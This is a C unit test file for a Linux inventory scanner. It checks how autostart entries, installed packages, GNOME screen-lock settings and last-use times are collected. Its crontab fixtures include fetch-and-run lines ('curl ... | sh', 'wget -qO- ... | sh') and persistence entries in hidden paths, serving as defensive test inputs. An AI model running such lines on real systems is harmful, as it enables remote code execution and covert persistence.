/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The probes of Linux systems: what starts by itself, which programs are there, the screen lock, the
 * last use. */
#include "tests/unit/scanners/probes/linux_files.h"

#define TASK FACT_KIND_SCHEDULED_TASK
#define JST  "TZif2...\nJST-9\n"

static const struct row rows[] = {
	/* what starts by itself */
	{ "linux-starts",
	  { "=etc/crontab SHELL=/bin/sh~17 * * * * root cd / && run-parts /etc/cron.hourly~@reboot "
	    "root /tmp/.x/run >/dev/null",
	    "=etc/cron.d/e */5 * * * * root /usr/bin/a >/tmp/log 2>&1",
	    "=var/spool/cron/crontabs/yamada 0 1 * * * sh /var/tmp/b.sh\n"
	    "=var/spool/cron/crontabs/z * * * * * curl -s http://x/y | sh" },
	  TASK,
	  "collected\n name=crontab command=cd area=system enabled=yes hidden=no file=yes\n"
	  " name=crontab command=/tmp/.x/run area=temporary enabled=yes hidden=no file=yes\n"
	  " name=e command=/usr/bin/a area=system enabled=yes hidden=no file=yes\n"
	  " name=yamada command=/var/tmp/b.sh area=temporary enabled=yes hidden=no file=yes\n"
	  " name=z command=curl area=public enabled=yes hidden=no file=yes\n" },
	{ "linux-starts",
	  { NULL, NULL, NULL, "=u/a.service [Service]~ExecStart=-/usr/lib/.hid/d --x",
	    "=u/b.service ExecStart=/home/a/bin/b", "=u/c.desktop Exec=zoom %U",
	    "=etc/rc.local #!/bin/sh~/usr/bin/ok~exit 0" },
	  TASK,
	  "collected\n name=a.service command=/usr/lib/.hid/d area=system enabled=yes hidden=yes "
	  "file=yes\n name=b.service command=/home/a/bin/b area=user enabled=yes hidden=no "
	  "file=yes\n name=c.desktop command=zoom area=system enabled=yes hidden=no file=yes\n"
	  " name=rc.local command=/usr/bin/ok area=system enabled=yes hidden=no file=yes\n"
	  " name=rc.local command=exit area=system enabled=yes hidden=no file=yes\n" },
	/* scripts of each day: one start each, told by the worst program that they call */
	{ "linux-starts",
	  { NULL, "=etc/cron.daily/.placeholder # nothing~\n=etc/cron.daily/apt #!/bin/sh~set -e~"
		  "if [ -x /usr/bin/x ]; then~  find /tmp -name y \\~    /tmp/z >/tmp/log "
		  "2>&1~fi~case $1 in~"
		  "/tmp/*) exit 0 ;;~esac~list=(/tmp/a /tmp/b)\n=etc/cron.hourly/b #!/bin/sh -e~"
		  "# /tmp/no~x=$(/var/tmp/got) # why~\n=etc/cron.weekly/c #!/bin/bash~"
		  "if true; then /usr/lib/.c/d; fi\n=etc/cron.monthly/d #!/bin/sh~wget -qO- "
		  "http://x/y | sh~"
		  "\n=etc/cron.monthly/e #!/usr/bin/python3~/tmp/x = 1\n=etc/cron.daily/f "
		  "#!/tmp/f/sh~ls\n"
		  "=etc/cron.d/g @daily root nice -n 10 /tmp/g\n=etc/cron.daily/h \177ELF~/tmp/x\n"
		  "=etc/cron.daily/i # a comment alone" },
	  TASK,
	  "collected\n name=g command=/tmp/g area=temporary enabled=yes hidden=no file=yes\n"
	  " name=apt command=/etc/cron.daily/apt area=system enabled=yes hidden=no file=yes\n"
	  " name=f command=/tmp/f/sh area=temporary enabled=yes hidden=no file=yes\n"
	  " name=h command=/etc/cron.daily/h area=system enabled=yes hidden=no file=yes\n"
	  " name=b command=/var/tmp/got area=temporary enabled=yes hidden=no file=yes\n"
	  " name=d command=/etc/cron.monthly/d area=public enabled=yes hidden=no file=yes\n"
	  " name=e command=/etc/cron.monthly/e area=system enabled=yes hidden=no file=yes\n"
	  " name=c command=/usr/lib/.c/d area=system enabled=yes hidden=yes file=yes\n" },
	/* a script is for a user's own folder only when nothing in it is worse; root's is one, too */
	{ "linux-starts",
	  { NULL,
	    "=etc/cron.daily/a /root/a~/usr/bin/b\n=etc/cron.daily/b /home/b/c && { /tmp/x; }" },
	  TASK,
	  "collected\n name=a command=/root/a area=user enabled=yes hidden=no file=yes\n"
	  " name=b command=/tmp/x area=temporary enabled=yes hidden=no file=yes\n" },
	/* anacron's table; starts for every user's desktop, and of root's own home */
	{ "linux-starts",
	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL,
	    "=etc/anacrontab SHELL=/bin/sh~1 5 cron.daily run-parts --report /etc/cron.daily~"
	    "@monthly 15 z timeout 5m /tmp/z",
	    "=etc/xdg/autostart/a.desktop [Desktop Entry]~Exec=/dev/shm/a --b",
	    "=root/.config/systemd/user/b.service ExecStart=/usr/lib/../bin/b",
	    "=root/.config/autostart/c.desktop Exec=env A=1 /var/tmp/c" },
	  TASK,
	  "collected\n name=anacrontab command=run-parts area=system enabled=yes hidden=no "
	  "file=yes\n name=anacrontab command=/tmp/z area=temporary enabled=yes hidden=no "
	  "file=yes\n name=a.desktop command=/dev/shm/a area=temporary enabled=yes hidden=no "
	  "file=yes\n name=b.service command=/usr/lib/../bin/b area=system enabled=yes hidden=no "
	  "file=yes\n name=c.desktop command=/var/tmp/c area=temporary enabled=yes hidden=no "
	  "file=yes\n" },
	/* what only leads elsewhere was not looked at; a file, a folder, a point make no difference */
	{ "linux-starts",
	  { NULL, "=etc/cron.daily/a /usr/bin/b", NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL,
	    NULL, NULL, "+google-chrome +~a" },
	  TASK,
	  "partial\n name=a command=/etc/cron.daily/a area=system enabled=yes hidden=no "
	  "file=yes\n" },
	{ "linux-starts",
	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, "+~a +/b +.c" },
	  TASK,
	  "collected\n" },
	{ "linux-starts",
	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL,
	    "!" },
	  TASK,
	  "failed\n" },
	{ "linux-starts",
	  { NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, "!" },
	  TASK,
	  "failed\n" },
	{ "linux-starts",
	  { NULL, "=etc/cron.daily/a /tmp/x", NULL, NULL, NULL, NULL, NULL, NULL, NULL, NULL, "!" },
	  TASK,
	  "partial\n name=a command=/tmp/x area=temporary enabled=yes hidden=no file=yes\n" },
	{ "linux-starts", { NULL }, TASK, "collected\n" },
	{ "linux-starts", { NULL, "!" }, TASK, "failed\n" },
	/* programs */
	{ "linux-programs",
	  { "Package: dpkg\nPriority: required\nStatus: install ok installed\nVersion: "
	    "1\n\nPackage: "
	    "libx\nStatus: install ok installed\nPriority: optional\n\nPackage: "
	    "gimp\nDescription: a\n Package: no\n .\nStatus: install ok installed\nVersion: "
	    "2.10\nPriority: optional\n\nPackage: gone\nStatus: deinstall ok "
	    "config-files\n\nPackage: anydesk\nStatus: hold ok installed\n",
	    "Package: libx\nAuto-Installed: 1\n\nPackage: gimp\nAuto-Installed: 0\n",
	    "+~core22_1.snap +~firefox_1.snap +~firefox_2.snap +~x", "+/org.gimp.GIMP +/junk" },
	  FACT_KIND_SOFTWARE,
	  "collected\n name=gimp version=2.10 scope=machine origin=dpkg\n name=anydesk "
	  "scope=machine origin=dpkg\n name=firefox scope=machine origin=snap\n "
	  "name=org.gimp.GIMP scope=machine origin=flatpak\n" },
	{ "linux-programs",
	  { "Package: a\nStatus: install ok installed\n\n\n\nPackage: b\nStatus: install ok "
	    "installed\n" },
	  FACT_KIND_LINUX_PACKAGES,
	  "collected\n method=dpkg count=2\n" },
	{ "linux-programs", { "junk" }, FACT_KIND_SOFTWARE, "failed\n" },
	{ "linux-programs", { "!" }, FACT_KIND_SOFTWARE, "failed\n" },
	{ "linux-programs", { NULL }, FACT_KIND_SOFTWARE, "failed\n" },
	{ "linux-programs",
	  { "Package: a\nStatus: install ok installed\n", "!" },
	  FACT_KIND_SOFTWARE,
	  "partial\n name=a scope=machine origin=dpkg\n" },
	/* name and last use */
	{ "linux-last-use",
	  { NULL, NULL, "denpyo-pc\n", JST },
	  FACT_KIND_COMPUTER,
	  "collected\n name=denpyo-pc zone_offset=32400\n" },
	{ "linux-last-use", { NULL, "junk" }, FACT_KIND_LAST_USE, "failed\n" },
};

START_TEST(each_row)
{
	row_holds(&rows[_i]);
}
END_TEST

static struct bytes settings(const char *spec)
{
	char cwd[2048];
	const char *src = getenv("KENSHIN_SRC");

	ck_assert(getcwd(cwd, sizeof(cwd)));
	fixtures_text("g.spec", spec);
	fixtures_run("python3 \"%s/tests/fixtures/tools/mkgvdb.py\" g.spec g.db", src ? src : cwd);
	return fixtures_load("g.db");
}

#define SESSION "/org/gnome/desktop/session/idle-delay "
#define SAVER   "/org/gnome/desktop/screensaver/"

static const struct lock_row {
	const char *user, *machine, *others, *desktops, *wayland, *text;
} locks[] = {
	{ "/a b true\n", NULL, NULL, NULL, "+gnome.desktop",
	  "collected\n scope=user user=yamada\n" }, /* nothing set */
	{ SESSION "u 900\n" SAVER "lock-delay u 30\n" SAVER "lock-enabled b true\n", NULL, NULL,
	  "+ubuntu.desktop", NULL,
	  "collected\n scope=user user=yamada active=yes secure=yes idle_seconds=930\n" },
	{ SESSION "u 0\n", NULL, NULL, "+gnome-xorg.desktop", NULL,
	  "collected\n scope=user user=yamada active=no\n" },
	{ SAVER "lock-enabled b true\n/org/gnome/desktop/lockdown/disable-lock-screen b true\n",
	  NULL, NULL, NULL, "+gnome.desktop", "collected\n scope=user user=yamada secure=no\n" },
	/* what was set for all: below the user's own, above it where it is locked */
	{ SESSION "u 60\n", SESSION "u 600\n" SAVER "lock-enabled b false\n",
	  "=etc/dconf/db/local ", NULL, "+gnome.desktop",
	  "collected\n scope=user user=yamada active=yes secure=no idle_seconds=60\n" },
	{ SESSION "u 0\n", SESSION "u 600\nlock " SESSION "\n", NULL, NULL, "+gnome.desktop",
	  "collected\n scope=user user=yamada active=yes idle_seconds=600\n" },
	{ "/a b true\n", NULL, "=etc/dconf/db/firm ", NULL, "+gnome.desktop",
	  "partial\n scope=user user=yamada\n" },
	{ "/a b true\n", NULL, NULL, "+gnome.desktop +plasma.desktop", NULL,
	  "partial\n scope=user user=yamada\n" },
	{ NULL, NULL, NULL, "+plasma.desktop", NULL, "failed\n" },
	{ NULL, NULL, NULL, NULL, "+gnome.desktop", "collected\n" }, /* never used it */
	{ NULL, NULL, NULL, NULL, NULL, "collected\n scope=console\n" },
	{ "!", NULL, NULL, NULL, "+gnome.desktop", "failed\n" },
	{ "/a b true\n", NULL, NULL, "!", NULL, "failed\n" },
	{ SESSION "s never\n", NULL, NULL, NULL, "+gnome.desktop", "failed\n" }, /* no number */
};

START_TEST(the_screen_lock_of_gnome)
{
	const struct lock_row *r = &locks[_i];
	struct visit v;

	visit_init(&v);
	put(&v, 2, r->others);
	put(&v, 3, r->desktops);
	put(&v, 4, r->wayland);
	if (r->user && *r->user == '!')
		put(&v, 0, "!");
	else if (r->user)
		visit_bytes(&v, 0, settings(r->user));
	if (r->machine)
		visit_bytes(&v, 1, settings(r->machine));
	visit_run(&v, "linux-screen-lock");
	visit_expect(&v, FACT_KIND_SCREEN_LOCK, r->text);
	visit_done(&v);
}
END_TEST

/* The heads of journals and the records of starts know when the PC was in use. */
START_TEST(last_use_stands_inside_of_files)
{
	uint8_t journal[256] = "LPKSHHRH", wtmp[2 * 384] = { 0 };
	uint64_t micro = (uint64_t)1763600000 * 1000000;
	uint32_t at = 1763610000;
	struct str s = STR_INIT(1000);
	struct visit v;

	for (size_t i = 0; i < 8; i++)
		journal[192 + i] = (uint8_t)(micro >> 8 * i);
	str_addf(&s, "c 9000 - 256 a/system.journal\n");
	str_addn(&s, (const char *)journal, sizeof(journal));
	visit_init(&v);
	visit_bytes(&v, 0, copy(&v, &s));
	visit_run(&v, "linux-last-use");
	visit_expect(&v, FACT_KIND_LAST_USE, "collected\n at=2025-11-20T00:53:20Z\n");
	visit_done(&v);

	wtmp[384] = 7;
	for (size_t i = 0; i < 4; i++)
		wtmp[384 + 340 + i] = (uint8_t)(at >> 8 * i);
	visit_init(&v);
	visit_bytes(&v, 1, bytes_of(wtmp, sizeof(wtmp)));
	visit_run(&v, "linux-last-use");
	visit_expect(&v, FACT_KIND_LAST_USE, "collected\n at=2025-11-20T03:40:00Z\n");
	visit_done(&v);
}
END_TEST

int main(void)
{
	Suite *s = suite_create("linux use");
	TCase *tc = tcase_create("linux");

	tcase_add_loop_test(tc, each_row, 0, LEN(rows));
	tcase_add_test(tc, last_use_stands_inside_of_files);
	tcase_add_loop_test(tc, the_screen_lock_of_gnome, 0, LEN(locks));
	suite_add_tcase(s, tc);
	return fixtures_main(s);
}
